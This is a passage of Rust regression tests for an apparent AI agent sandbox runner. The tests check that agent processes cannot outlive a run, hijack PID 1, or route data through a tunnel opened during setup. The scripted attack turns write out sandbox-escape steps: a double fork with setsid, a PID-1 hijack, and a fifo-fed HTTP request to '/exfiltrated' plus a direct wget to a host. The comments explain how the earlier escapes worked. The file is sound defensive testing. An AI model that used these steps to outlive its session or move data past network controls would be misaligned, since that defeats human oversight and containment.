    assert_eq!(in_run_2[0].0, in_run_2[0].1, "alive in run 2:\n{run_2}");
    for n in 1..=2 {
        let test = log_of(&repo, &id, &format!("test-{n}.log"));
        let checks = leftover_checks(&test);
        assert_eq!(checks.len(), 1, "{test}");
        assert_eq!(checks[0].0, checks[0].1, "alive in test run {n}:\n{test}");
    }
    assert_eq!(lines_after, lines_later, "alive after the task");
    let run_1 = log_of(&repo, &id, "run-1.log");
    for refused in [
        "pid1-probe hijack 1: refused",
        "pid1-probe hijack carrier: refused",
    ] {
        assert!(run_1.contains(refused), "{refused}:\n{run_1}");
    }
    assert_no_container(&id);
}

/// Issue 41: a process that ends its thread group's leader alone while a thread of
/// it goes on shows as a zombie, which the stop pass skipped; it kept writing into
/// the repository after the run (with a double fork and `setsid` on top).
#[test]
fn a_process_whose_leader_ended_does_not_outlive_the_run() {
    let dir = Scratch::new("bnd-linger");
    let repo = pid1_repo(&dir);
    let id = task_id("bnd-linger");
    let attack = "@run: ./pid1-probe linger /workspace/project/linger.log; sleep 1\n@say: left it";
    let check = format!("@run: {}\n@say: looked", leftover_check("linger.log"));
    let task = e2e_task(&id, &repo).test(leftover_check("linger.log").as_str());
    let (out, _server) = run_prompts(task, &[attack, &check]);
    out.code(0);
    let run_1 = log_of(&repo, &id, "run-1.log");
    assert!(
        run_1.contains("pid1-probe linger /workspace/project/linger.log: allowed"),
        "{run_1}"
    );
    assert!(
        std::fs::read_to_string(repo.join("linger.log")).is_ok_and(|l| l.contains("alive")),
        "it ran during run 1"
    );
    let run_2 = log_of(&repo, &id, "run-2.log");
    let in_run_2 = leftover_checks(&run_2);
    assert_eq!(in_run_2.len(), 1, "{run_2}");
    assert_eq!(in_run_2[0].0, in_run_2[0].1, "alive in run 2:\n{run_2}");
    for n in 1..=2 {
        let test = log_of(&repo, &id, &format!("test-{n}.log"));
        let checks = leftover_checks(&test);
        assert_eq!(checks.len(), 1, "{test}");
        assert_eq!(checks[0].0, checks[0].1, "alive in test run {n}:\n{test}");
    }
    assert_no_container(&id);
}

/// Issue 41: a tunnel to a setup-only host, opened during setup by a process that
/// outlived it (PID 1 made to run it), carried the worker's data there after
/// setup, while the worker's own connection to that host got 403.
#[test]
fn a_tunnel_setup_opened_does_not_carry_the_workers_data() {
    let site = support::destination::Destination::start("packages", "127.0.0.2");
    let dir = Scratch::new("bnd-tunnel");
    let repo = pid1_repo(&dir);
    let id = task_id("bnd-tunnel");
    let to = site.authority();
    let setup = format!(
        "mkfifo /tmp/up; printf 'tunnel\\n3128\\n{to}\\n/tmp/up\\n' > /tmp/pid1-probe-args; \
         ./pid1-probe hijack 1 /workspace/project/pid1-probe; ./pid1-probe linger /tmp/linger.log; \
         (./pid1-probe tunnel 3128 {to} /tmp/up &); sleep 1"
    );
    let attack = format!(
        "@run: timeout 3 sh -c \"printf 'GET /exfiltrated HTTP/1.1\\r\\nHost: {to}\\r\\n\\r\\n' > /tmp/up\"; echo fifo=$?\n\
         @run: wget -q -O - http://{to}/direct 2>&1; echo direct=$?\n@say: sent"
    );
    let task = e2e_task(&id, &repo)
        .set("runner.worker.network", "allowlist")
        .set("task.setup.command", setup)
        .set("task.setup.allow", [to.clone()]);
    let tmp = Scratch::new("bnd-tunnel-tmp");
    let (run, _server) = prompts_task(task, &[&attack]);
    let out = run.env("TMPDIR", &tmp.path).output();
    out.code(0);
    std::thread::sleep(Duration::from_millis(500));
    let heads = site.heads();
    assert!(
        !heads.iter().any(|h| h.contains("exfiltrated")),
        "the worker's data went through setup's tunnel: {heads:?}"
    );
    let run_1 = log_of(&repo, &id, "run-1.log");
    assert!(
        run_1.contains("403"),
        "the worker's own connection: {run_1}"
    );
    assert_no_container(&id);
}
